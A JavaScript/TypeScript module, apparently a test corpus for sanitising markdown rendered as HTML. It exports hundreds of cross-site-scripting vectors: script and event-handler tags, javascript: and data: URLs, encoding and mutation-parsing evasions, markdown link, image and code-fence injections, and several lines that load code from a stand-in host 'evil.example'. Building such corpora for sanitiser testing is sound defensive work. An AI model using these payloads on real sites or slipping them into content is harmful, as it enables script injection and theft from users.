/**
 * Attacks on whoever shows markdown as HTML, in our own words: the classes of vectors that the OWASP cheat sheet on filter evasion
 * and the test suites of sanitisers for HTML (DOMPurify, sanitize-html) and of markdown renderers (CommonMark, showdown, marked) hold.
 * Each would call `hit()`, or load from `evil.example`, in a page that shows it unsanitised.
 */

const tags = [
  '<script>hit()</script>', '<SCRIPT SRC=http://evil.example/x.js></SCRIPT>', '<script/x>hit()</script>', '<script\n>hit()</script\n>', '<<script>hit();//<</script>',
  '<scr<script>ipt>hit()</scr</script>ipt>', '<script>hit()', '</script><script>hit()</script>', '<script src=//evil.example/x.js <b>', '<script type="text/plain" type=module>hit()</script>',
  '<svg><script>hit()</script></svg>', '<svg><script href="data:text/javascript,hit()"/>', '<math><script>hit()</script></math>', '<noscript><p title="</noscript><img src=x onerror=hit()>">',
  '<iframe src="javascript:hit()"></iframe>', '<iframe srcdoc="<script>parent.hit()</script>"></iframe>', '<frameset><frame src="javascript:hit()"></frameset>', '<object data="javascript:hit()"></object>',
  '<object data="data:text/html,<script>hit()</script>">', '<embed src="javascript:hit()">', '<embed src="//evil.example/x.swf" allowscriptaccess=always>', '<applet code=hit></applet>', '<base href="javascript:hit()//">',
  '<base href="//evil.example/">', '<meta http-equiv=refresh content="0;url=javascript:hit()">', '<link rel=stylesheet href="javascript:hit()">', '<link rel=import href="data:text/html,<script>hit()</script>">', '<style>@import "//evil.example/x.css";</style>',
  '<style>*{background:url("javascript:hit()")}</style>', '<style onload=hit()></style>', '<template><script>hit()</script></template>', '<xml id=x><i><![CDATA[<img src=x onerror=hit()>]]></i></xml>', '<plaintext><img src=x onerror=hit()>',
  '<xmp><img src=x onerror=hit()></xmp>', '<listing>&lt;img src=x onerror=hit()&gt;</listing>', '<form action="javascript:hit()"><button autofocus>x</button></form>', '<button formaction="javascript:hit()" form=f>x</button>', '<isindex action="javascript:hit()" type=image>',
  '<portal src="javascript:hit()">', '<marquee onstart=hit()>x</marquee>', '<bgsound src="javascript:hit()">', '<layer src="//evil.example/x.js"></layer>', '<a href="javascript:hit()">x</a>', '<?xml-stylesheet href="javascript:hit()"?>', '<!DOCTYPE x [<!ENTITY y "hit()">]>',
  '<!--<img src="--><img src=x onerror=hit()>">', '<!-- --!><img src=x onerror=hit()>', '<![CDATA[<img src=x onerror=hit()>]]>', '<![endif]--><img src=x onerror=hit()>', '<!--[if gte IE 4]><script>hit()</script><![endif]-->',
]

const handlers = [
  '<img src=x onerror=hit()>', '<img src=x onerror="hit()"', '<IMG SRC=x OnErRoR=hit()>', '<img src=x onerror&#61;hit()>', '<img/src=x/onerror=hit()>', '<img src="x`onerror=hit()">', '<img """><script>hit()</script>">', "<img src='x'onerror='hit()'>",
  '<img src=x\u000Bonerror=hit()>', '<img src=x\u000Conerror=hit()>', '<img src=x\u0000 onerror=hit()>', '<img src=x:x onerror\n=hit()>', '<img src=x onerror=\u2028hit()>', '<img srcset="x 1x" onerror=hit()>', '<image src=x onerror=hit()>', '<picture><source srcset=x><img onerror=hit()></picture>',
  '<svg onload=hit()>', '<svg/onload=hit()>', '<svg><g onload=hit()></g></svg>', '<svg><animate onbegin=hit() attributeName=x dur=1s>', '<svg><set attributeName=onmouseover to=hit()>', '<svg><a xlink:href="javascript:hit()"><text y=9>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>hit()</script></svg>#x"/></svg>', '<svg><foreignObject><body onload=hit()></foreignObject></svg>', '<svg><style><img src=x onerror=hit()></style></svg>', '<svg><desc><img src=x onerror=hit()></desc></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=hit()&gt;">', '<math href="javascript:hit()">x</math>', '<math><annotation-xml encoding="text/html"><img src=x onerror=hit()></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=hit() src>">', '<select><template><img src=x onerror=hit()></template></select>', '<body onload=hit()>', '<body background="javascript:hit()">', '<div onmouseover=hit()>x</div>',
  '<details open ontoggle=hit()>x</details>', '<video src=x onerror=hit()></video>', '<video><source onerror=hit()></video>', '<audio src=x onerror=hit()>', '<input autofocus onfocus=hit()>', '<select autofocus onfocus=hit()>', '<textarea autofocus onfocus=hit()>', '<keygen autofocus onfocus=hit()>',
  '<input type=image src=x onerror=hit()>', '<input type="checkbox" checked onchange=hit()>', '<a tabindex=0 autofocus onfocus=hit()>x</a>', '<b contenteditable autofocus onfocus=hit()>x</b>', '<x onclick=hit() id=x>', '<b style="animation:x" onanimationstart=hit()>x</b>',
  '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=hit()></b>', '<b style="background:url(//evil.example/x)">x</b>', '<b style="width:expression(hit())">x</b>', '<b style="-moz-binding:url(//evil.example/x.xml#x)">x</b>', '<p class=x id=y name=z data-bind="hit()">x</p>',
  '<img src=1 href=1 onerror="javascript:hit()"></img>', '<a onmouseover=hit()\\<a onmouseover=hit()>x', '<b/alt="/"src="/"onmouseover=hit()>x', '<img dynsrc="javascript:hit()">', '<img lowsrc="javascript:hit()">', '<table background="javascript:hit()"><td background="javascript:hit()">', '<br size="&{hit()}">', '<dialog open onclose=hit()>x</dialog>', '<b popover ontoggle=hit()>x</b>',
]

const addresses = [
  'javascript:hit()', 'JaVaScRiPt:hit()', 'javascript&colon;hit()', 'javascript&#58;hit()', 'javascript&#x3A;hit()', 'java&#115;cript:hit()', '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;hit()', '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;hit()',
  'java&Tab;script:hit()', 'java&NewLine;script:hit()', 'java\tscript:hit()', '&#1;javascript:hit()', '&#14;javascript:hit()', '\u0001javascript:hit()', '\u00A0javascript:hit()', '\u2028javascript:hit()', ' javascript:hit()', 'javascript\u200B:hit()', 'javascript:\\u0068it()', 'javascript://%0Ahit()', 'javascript:/*--></title>*/hit()',
  'javascript%3Ahit()', '%6Aavascript:hit()', 'vbscript:hit()', 'livescript:hit()', 'mocha:hit()', 'data:text/html,<script>hit()</script>', 'data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==', 'DATA:image/svg+xml,<svg onload=hit()>', 'data:;charset=utf-8,hit()', 'blob:http://evil.example/x', 'file:///etc/passwd',
  'filesystem:http://evil.example/x', 'view-source:javascript:hit()', 'jar:http://evil.example!/x', 'feed:javascript:hit()', 'about:blank#javascript:hit()', 'ms-settings:x', 'intent://x#Intent;scheme=http;end', '//evil.example/x', '/\\evil.example', '\\\\evil.example\\x', '/path', '?query', '#fragment', 'path', 'x:y', ':hit()', 'https:javascript:hit()',
  'http:evil.example', 'https:/evil.example', 'mailto:a@b.c?body="><img src=x onerror=hit()>', 'https://a.b/"onmouseover="hit()', "https://a.b/'onmouseover='hit()", 'https://a.b/`onmouseover=`hit()', 'https://a.b/><img/src=x/onerror=hit()>', 'https://javascript:hit()@a.b/', 'https://a.b/\u202Egnp.exe', 'tel:1',
]

const markdown = [
  ...addresses.flatMap((address) => [`[x](${address})`, `[x](<${address}>)`, `![x](${address})`, `<${address}>`, `[x][r]\n\n[r]: ${address}`, `[x](https://a.b "${address}")`]),
  '[x](https://a.b "t\\" onmouseover=hit() \\"")', "[x](https://a.b 't\" onclick=\"hit()')", '![x" onerror="hit()](x)', '![x](x "t\\" onerror=hit() \\"")', '![<img src=x onerror=hit()>](https://a.b/x.png)', '[<img src=x onerror=hit()>](https://a.b)', '[![x](javascript:hit())](javascript:hit())', '[a]: <javascript:hit()>\n[a]',
  '[x]: data:text/html,<script>hit()</script>\n\n![x]', '```"><img src=x onerror=hit()>\nx\n```', '```js" onmouseover="hit()\nx\n```', '~~~<script>hit()</script>\nx\n~~~', '```\n</code></pre><img src=x onerror=hit()>\n```', '`</code><img src=x onerror=hit()>`', '    </pre><img src=x onerror=hit()>', '- ```x" onload="hit()\n  y\n  ```',
  '| <img src=x onerror=hit()> | b |\n|-|-|\n| [x](javascript:hit()) | <svg onload=hit()> |', '|a|\n|:-" onmouseover="hit()|\n|b|', '- [x" onclick="hit()] task', '- [x] <img src=x onerror=hit()>', '1" onclick="hit()". x', '# <img src=x onerror=hit()>', 'x\n<img src=x onerror=hit()>\n===', '> <script>hit()</script>', '[^1]\n\n[^1]: <img src=x onerror=hit()>',
  '[^"><img src=x onerror=hit()>]\n\n[^"><img src=x onerror=hit()>]: y', '[^__proto__]\n\n[^__proto__]: x', '[constructor]: javascript:hit()\n[constructor]', 'https://a.b/<img/src=x/onerror=hit()>', 'www.a.b"onmouseover="hit()', 'https://a.b?"onmouseover=hit()//', 'hit@a.b"onmouseover="hit()', '\\<img src=x onerror=hit()>', '&lt;img src=x onerror=hit()&gt;', '&#60;img src=x onerror=hit()&#62;',
  '&amp;lt;script&amp;gt;hit()', '*<img src=x *onerror=hit()>*', '<a href="`">`</a><img src=x onerror=hit()>`', '<a b="</p><img src=x onerror=hit()>', '<b>**x</b>**<img src=x onerror=hit()>', '<https://a.b/"><img src=x onerror=hit()>', '\uFF1Cscript\uFF1Ehit()\uFF1C/script\uFF1E', '+ADw-script+AD4-hit()+ADw-/script+AD4-', '¼script¾hit()¼/script¾', '{{constructor.constructor("hit()")()}}', '${hit()}', '<%= hit() %>',
]

export const ATTACKS: readonly string[] = [...new Set([...tags, ...handlers, ...markdown, ...[...tags, ...handlers].map((html) => `text *a* ${html} text`), ...[...tags, ...handlers].map((html) => `- item\n\n  ${html}`)])]
